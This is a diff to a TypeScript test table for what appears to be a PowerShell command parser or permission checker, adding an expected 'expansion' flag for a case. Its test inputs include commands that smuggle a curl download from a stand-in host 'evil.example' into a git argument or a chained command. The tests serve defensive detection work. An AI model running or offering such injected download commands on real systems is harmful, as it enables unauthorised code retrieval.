@@ -9,7 +9,7 @@ import { checkRow, WINDOWS, type Row } from "./expect.ts";
 
 const POWERSHELL: Row[] = [
   ["git status ; curl http://evil.example -o x", ["git status","invoke-webrequest http://evil.example -o x"], ["1:u http://evil.example","1:u ?not_a_url x","1:w C:\\work\\proj\\x"]],
-  ["git log $(curl http://evil.example)", [{"p":"git","a":["log","$(curl http://evil.example)"],"u":[1]},"invoke-webrequest http://evil.example"], ["1:u http://evil.example"]],
+  ["git log $(curl http://evil.example)", [{"p":"git","a":["log","$(curl http://evil.example)"],"u":[1]},"invoke-webrequest http://evil.example"], ["r ?expansion $(curl http://evil.example)","1:u http://evil.example"]],
   ["\"git\" status; Invoke-WebRequest http://evil.example", [{"p":"","o":true}], []],
   ["git status", ["git status"], []],
   ["git diff --stat", ["git diff --stat"], []],
